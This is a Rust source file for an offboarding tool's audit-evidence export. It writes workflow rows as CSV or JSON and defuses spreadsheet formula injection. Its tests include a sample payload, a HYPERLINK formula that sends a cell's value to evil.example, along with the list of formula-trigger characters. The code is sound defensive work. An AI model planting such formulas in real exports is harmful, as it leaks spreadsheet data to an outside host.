//! `offboard evidence`: one row per workflow for auditors — who, which app, on whose
//! request, when asked, when done, how it ended, the entitlements before and after, and
//! how long access outlived the request.

use chrono::{DateTime, NaiveDate, Utc};
use serde_json::{json, Value};

use super::{db, fail, Failure, Outcome, EXIT_FAILURE, EXIT_OK, EXIT_USAGE};
use crate::store::Store;

/// The columns, in order (CSV header and JSON keys).
pub const COLUMNS: [&str; 17] = [
    "workflow_id",
    "person_email",
    "app",
    "connection",
    "event_id",
    "event_type",
    "event_time",
    "requested_by",
    "transfer_to",
    "started_at",
    "finished_at",
    "state",
    "outcome",
    "error_code",
    "entitlements_before",
    "entitlements_after",
    "seconds_to_access_removed",
];

/// Parses `2026-11-20` (midnight UTC) or an RFC 3339 time.
pub fn parse_date(raw: &str, flag: &str) -> Result<DateTime<Utc>, Failure> {
    if let Ok(t) = DateTime::parse_from_rfc3339(raw) {
        return Ok(t.with_timezone(&Utc));
    }
    NaiveDate::parse_from_str(raw, "%Y-%m-%d")
        .ok()
        .and_then(|d| d.and_hms_opt(0, 0, 0))
        .map(|t| t.and_utc())
        .ok_or_else(|| {
            fail(
                EXIT_USAGE,
                format!("{flag} {raw:?} is not a date (YYYY-MM-DD) or an RFC 3339 time"),
            )
        })
}

/// The rows for workflows created in [since, until).
pub async fn rows(
    store: &Store,
    since: DateTime<Utc>,
    until: Option<DateTime<Utc>>,
) -> Result<Vec<Value>, Failure> {
    let mut out = Vec::new();
    let mut workflows = store.list(None).await.map_err(db)?;
    workflows.reverse();
    for row in workflows {
        if row.created_at < since || until.is_some_and(|u| row.created_at >= u) {
            continue;
        }
        let Some(loaded) = store.load(&row.id).await.map_err(db)? else {
            continue;
        };
        let state = loaded.state;
        let event_time = state.request.event_time;
        let removed = matches!(row.outcome.as_deref(), Some("removed" | "downgraded"));
        let seconds = match (removed, event_time, row.finished_at) {
            (true, Some(asked), Some(done)) => Some((done - asked).num_seconds()),
            _ => None,
        };
        out.push(json!({
            "workflow_id": row.id,
            "person_email": row.person_email,
            "app": row.app,
            "connection": row.connection,
            "event_id": row.event_id,
            "event_type": row.event_type,
            "event_time": event_time.map(|t| t.to_rfc3339()),
            "requested_by": state.request.source,
            "transfer_to": row.transfer_to,
            "started_at": row.created_at.to_rfc3339(),
            "finished_at": row.finished_at.map(|t| t.to_rfc3339()),
            "state": row.state,
            "outcome": row.outcome,
            "error_code": row.error_code,
            "entitlements_before": state.facts.get("entitlements_before").cloned().unwrap_or(Value::Null),
            "entitlements_after": state.facts.get("entitlements_after").cloned().unwrap_or(Value::Null),
            "seconds_to_access_removed": seconds,
        }));
    }
    Ok(out)
}

/// A cell's text. A string that a spreadsheet would run as a formula (it starts with `=`,
/// `+`, `-`, `@`, a tab or a carriage return: OWASP's CSV-injection list) gets a leading
/// `'`, which makes it plain text; [`to_csv`] then quotes it. Numbers are not strings
/// offboard was handed, so a negative one stays a number.
fn cell(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::String(s) if s.starts_with(['=', '+', '-', '@', '\t', '\r']) => format!("'{s}"),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

/// The rows as CSV with a header line. Fields are quoted when CSV needs it, and always
/// when they hold a `'` — so every cell [`cell`] defused is a quoted field starting with
/// `'`. (The csv crate quotes any field containing its `comment` byte; nothing here reads
/// the output back with comments.)
pub fn to_csv(rows: &[Value]) -> Result<String, csv::Error> {
    let mut out = csv::WriterBuilder::new()
        .quote_style(csv::QuoteStyle::Necessary)
        .comment(Some(b'\''))
        .from_writer(Vec::new());
    out.write_record(COLUMNS)?;
    for row in rows {
        out.write_record(COLUMNS.iter().map(|c| cell(&row[*c])))?;
    }
    let bytes = out.into_inner().map_err(|e| e.into_error())?;
    // Every cell came from a `String` or a JSON value, so the bytes are UTF-8.
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

/// `offboard evidence`.
pub async fn run(store: &Store, since: &str, until: Option<&str>, format: &str) -> Outcome {
    let since = parse_date(since, "--since")?;
    let until = until.map(|u| parse_date(u, "--until")).transpose()?;
    let rows = rows(store, since, until).await?;
    match format {
        "json" => println!(
            "{}",
            serde_json::to_string_pretty(&rows).unwrap_or_default()
        ),
        "csv" => print!(
            "{}",
            to_csv(&rows).map_err(|e| fail(EXIT_FAILURE, format!("cannot write CSV: {e}")))?
        ),
        other => {
            return Err(fail(
                EXIT_USAGE,
                format!("unknown --format {other:?}: use csv or json"),
            ))
        }
    }
    Ok(EXIT_OK)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The CSV of one row whose `person_email` is `email` and `event_id` is `event`.
    fn line(email: Value, event: Value) -> String {
        let row = json!({"person_email": email, "event_id": event});
        let csv = to_csv(&[row]).unwrap();
        let mut lines = csv.lines();
        assert_eq!(lines.next(), Some(COLUMNS.join(",").as_str()));
        let line = lines.next().unwrap().to_string();
        assert_eq!(lines.next(), None);
        line
    }

    #[test]
    fn csv_fields_are_quoted_only_when_needed() {
        assert_eq!(line(json!("plain"), json!(42)), ",plain,,,42,,,,,,,,,,,,");
        assert_eq!(
            line(json!({"a": 1, "b": "x"}), Value::Null),
            ",\"{\"\"a\"\":1,\"\"b\"\":\"\"x\"\"}\",,,,,,,,,,,,,,,"
        );
        assert_eq!(line(json!("a,b"), json!(-3)), ",\"a,b\",,,-3,,,,,,,,,,,,");
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_defused() {
        let attack = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Click")"#;
        assert_eq!(
            line(json!(attack), json!("@SUM(1+1)")),
            r#","'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")",,,"'@SUM(1+1)",,,,,,,,,,,,"#
        );
        for lead in ["+", "-", "\t", "\r"] {
            let text = format!("{lead}1+1");
            assert_eq!(cell(&json!(text)), format!("'{text}"));
            assert!(line(json!(text), Value::Null).starts_with(&format!(",\"'{lead}1+1\",")));
        }
        // A defused cell reads back as the text it was, behind the `'`.
        let csv = to_csv(&[json!({"person_email": attack})]).unwrap();
        let mut reader = csv::Reader::from_reader(csv.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        assert_eq!(&record[1], format!("'{attack}"));
        // Numbers and text that only contains such characters are left as they are.
        assert_eq!(cell(&json!(-5)), "-5");
        assert_eq!(cell(&json!("ada@example.com")), "ada@example.com");
    }

    #[test]
    fn dates_and_times_are_accepted() {
        assert_eq!(
            parse_date("2026-11-20", "--since")
                .ok()
                .unwrap()
                .to_rfc3339(),
            "2026-11-20T00:00:00+00:00"
        );
        assert!(parse_date("2026-11-20T17:00:00Z", "--since").is_ok());
        assert!(parse_date("last tuesday", "--since").is_err());
    }
}
